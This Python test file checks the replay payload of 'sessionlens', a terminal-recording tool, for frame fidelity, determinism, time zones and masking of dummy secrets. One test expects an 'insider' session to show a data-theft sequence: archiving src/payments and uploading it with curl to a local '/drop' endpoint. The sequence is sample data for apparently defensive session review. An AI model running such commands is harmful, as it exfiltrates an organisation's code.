"""The payload holds what the timeline has, cell by cell; it is small, and the same each time."""

from __future__ import annotations

import json
import zlib
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

import sessionlens as sl
from sessionlens.player import Command, Film, payload
from sessionlens.recording import Info, Recording
from sessionlens.terminal import Frame, Timeline, replay

from .decoding import Cells, Decoded

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures"
SESSIONS = sorted(path for path in (FIXTURES / "sessions").iterdir() if path.is_dir())


def cells(timeline: Timeline, row: int) -> Cells:
    """The cells of a row of the timeline, links and protection left out."""
    view = timeline.row(row)
    styles = [style for size, style in view.lengths for _ in range(size)]
    plain = [replace(timeline.style(style), link="", protected=False) for style in styles]
    return list(zip(view.cell_texts, plain, strict=True))


def compare(timeline: Timeline, frames: list[Frame], found: Decoded) -> None:
    """Every frame is there, with every cell."""
    shown = list(found.frames())
    assert len(shown) == len(frames)
    same: dict[int, int] = {}
    for frame, one in zip(frames, shown, strict=True):
        assert (one.t_ns, one.offset, one.title) == (frame.t0_ns, frame.offset, frame.title)
        assert one.size == (frame.columns, frame.rows)
        assert one.cursor == (frame.cursor_x, frame.cursor_y, frame.cursor_visible)
        assert (one.alternate, one.reverse) == (frame.alternate, frame.reverse)
        for row, number in zip(frame.row_ids, one.rows, strict=True):
            assert same.setdefault(row, number) == number
    for row, number in same.items():
        assert found.cells(number) == cells(timeline, row)
        assert found.wrapped(number) == timeline.row(row).wrapped


@pytest.mark.parametrize("folder", SESSIONS, ids=lambda path: path.name)
def test_every_cell_of_every_frame_is_there(folder: Path, film_of: Callable[..., Film]) -> None:
    film = film_of(sl.open(folder))
    timeline = film.timeline
    compare(timeline, [timeline.frame(i) for i in range(len(timeline))], Decoded(payload(film)))


@pytest.mark.parametrize("name", ["typing", "resize", "wide", "colours"])
def test_what_terminals_do(name: str, recorded: Callable[..., Timeline]) -> None:
    timeline = recorded(SCREENS[name])
    compare(timeline, [frame for frame, *_ in timeline.walk()], Decoded(payload(Film(timeline, "x"))))


SCREENS: dict[str, list[bytes | tuple[int, int]]] = {
    "typing": [b"$ ", b"l", b"s\r\n", *(b"line %d\r\n" % i for i in range(90)), b"\x1b[H\x1b[2J$ "],
    "resize": [b"long " * 40, (40, 10), b"x", (120, 40), b"\r\nmore", (20, 5), b"\x1b[?5h"],
    "wide": [
        "漢字 e\u0301 👩\u200d🚀 \U0001f1e6\U0001f1f9 \u2500\u2588 𝒳".encode(),
        b"\x1b[1;2Hx", b"\x1b]2;t\xc3\xa9\x07y",
    ],
    "colours": [
        b"\x1b[1;3;4:3;38;2;1;2;3;48;5;200;58;5;9mA\x1b[0;2;5;7;8;9;53mB",
        b"\x1b]11;#102030\x07C\x1b[?1049hD",
    ],
}  # fmt: skip


@pytest.fixture
def recorded(typescript: Callable[..., Path]) -> Callable[..., Timeline]:
    """The timeline of pieces of output, half a second apart; a pair is a resize."""

    def make(pieces: list[bytes | tuple[int, int]]) -> Timeline:
        path = typescript([(0.5 * i, "o", p) for i, p in enumerate(pieces) if isinstance(p, bytes)])
        timing = path / "timing"
        head = [line for line in timing.read_text().splitlines() if line.startswith("H")]
        body = [
            f"O {0.5 if i else 0:.6f} {len(p)}" if isinstance(p, bytes)
            else f"S 0.500000 SIGWINCH ROWS={p[1]} COLS={p[0]}"
            for i, p in enumerate(pieces)
        ]  # fmt: skip
        timing.write_text("\n".join([*head[:4], *body]) + "\n")
        return sl.open(path).timeline

    return make


@given(st.lists(st.one_of(
    st.binary(max_size=40),
    st.text("abc 漢\u0301\u200d\n\r\t😀", max_size=30).map(str.encode),
    st.sampled_from([b"\x1b[2J", b"\x1b[H", b"\x1b[31m", b"\x1b[?1049h", b"\x1b[5S", b"\x1b[3L", b"\n" * 30]),
), min_size=1, max_size=25))  # fmt: skip
def test_any_output(pieces: list[bytes]) -> None:
    timeline = replayed(pieces)
    compare(timeline, [frame for frame, *_ in timeline.walk()], Decoded(payload(Film(timeline, "x"))))


def replayed(pieces: list[bytes], apart_ns: int = 40_000_001) -> Timeline:
    """A timeline of pieces of output."""
    pieces = [piece for piece in pieces if piece] or [b"x"]
    sizes = np.array([len(piece) for piece in pieces], np.int64)
    events = (
        np.arange(len(pieces), dtype=np.int64) * apart_ns,
        np.full(len(pieces), ord("o"), np.uint8),
        np.cumsum(sizes) - sizes,
        sizes,
    )
    info = Info("00000000", "x", "x", columns=30, rows=8)
    return replay(Recording(info, events, {"o": b"".join(pieces)})).timeline


def test_lines_that_passed_between_two_frames_are_there(typescript: Callable[..., Path]) -> None:
    lines = "".join(f"row {i} of many\r\n" for i in range(500)).encode()
    session = sl.open(typescript([(0, "o", b"$ cat many\r\n"), (1, "o", lines), (2, "o", b"$ ")]))
    found = Decoded(payload(Film(session.timeline, "x")))
    shown = {found.text(row) for frame in found.frames() for row in frame.rows}
    assert {f"row {i} of many" for i in range(500)} <= shown | set(found.passed())
    assert "row 3 of many" not in shown


def test_a_stretch_has_nothing_of_before_and_after(insider: sl.Session, film_of: Callable[..., Film]) -> None:
    film = film_of(insider, start=10, end=15)
    data = payload(film)
    found = Decoded(data)
    timeline = film.timeline
    first = timeline.at(10 * 10**9).index
    frames = [timeline.frame(i) for i in range(first, timeline.at(15 * 10**9).index + 1)]
    compare(timeline, frames, found)
    assert found.told["first"] == first
    assert [c["text"] for c in found.told["commands"]] == [
        "tar czf .cache.tgz src/payments", "ls -lh .cache.tgz", "curl -sS -m 5 -T .cache.tgz http://127.0.0.1:51895/drop",
    ]  # fmt: skip
    assert "history" not in json.dumps(found.told)
    assert {f["n"] for f in found.told["findings"]} <= {c["n"] for c in found.told["commands"]}


def test_the_same_film_gives_the_same_bytes(insider: sl.Session, film_of: Callable[..., Film]) -> None:
    assert payload(film_of(insider)) == payload(film_of(sl.open(insider.path)))


def test_no_link_and_no_secret_is_in_it(
    typescript: Callable[..., Path], film_of: Callable[..., Film]
) -> None:
    text = b"\x1b]8;;https://u:hunter2pass@x/\x07link\x1b]8;;\x07 password=hunter2pass "
    text += b"\x1b]2;password=hunter2pass\x07"
    session = sl.open(typescript([(0, "o", text), (1, "o", b"x")]))
    raw = zlib.decompress(payload(film_of(session))[4:])
    assert b"link" in raw and b"hunter2pass" not in raw and b"https" not in raw
    assert b"hunter2pass" in zlib.decompress(payload(film_of(session, False))[4:])


def test_sessions_that_differ_in_a_secret_alone_are_one_film(
    shell_session: Callable[..., Path], film_of: Callable[..., Film]
) -> None:
    films = []
    for secret in ("hunter2pass", "correcthors"):
        lines = [
            (f"mysql --password={secret} -e x", f"password={secret}\n"),
            (f"echo {secret}", secret + "\n"),
        ]
        films.append(film_of(sl.open(shell_session(lines, name=secret))))
    bare = [replace(film, session=None, facts=(), commands=unnamed(film)) for film in films]
    one, other = map(payload, bare)
    assert films[0].masked and films[0].masked == films[1].masked
    assert zlib.decompress(one[4:]) == zlib.decompress(other[4:])


def unnamed(film: Film) -> list[Command]:
    """Its commands without the session's digits, which come from all its bytes."""
    return [replace(command, ref="") for command in film.commands]


def test_the_zone_beside_utc_follows_its_clocks(insider: sl.Session, film_of: Callable[..., Film]) -> None:
    with sl.options(tz="Europe/Vienna"):
        film = film_of(insider)
    # 2026-10-25 00:59:30 UTC; clocks go back at 01:00 UTC
    film = replace(film, started_ns=1_792_889_970_000_000_000, end_ns=60 * 10**9)
    zone = Decoded(payload(film)).told["zone"]
    assert zone == {"name": "Europe/Vienna", "steps": [[0, 7200], [30, 3600]]}
    # a fraction of a second later, and until after the change of spring
    film = replace(film, started_ns=film.started_ns + 250_000_000, end_ns=200 * 86_400 * 10**9)
    zone = Decoded(payload(film)).told["zone"]
    spring = 29.75 + 154 * 86_400  # 2027-03-28 01:00 UTC
    assert zone == {"name": "Europe/Vienna", "steps": [[0, 7200], [29.75, 3600], [spring, 7200]]}


def test_twenty_thousand_frames_are_small(benchmarks: Callable[[str], object]) -> None:
    recording = benchmarks("long_session").long_session(620, 1_200_000)  # type: ignore[attr-defined]
    timeline = replay(recording).timeline
    assert len(timeline) > 15_000
    assert len(payload(Film(timeline, "x"))) * 20_000 / len(timeline) <= 1_500_000
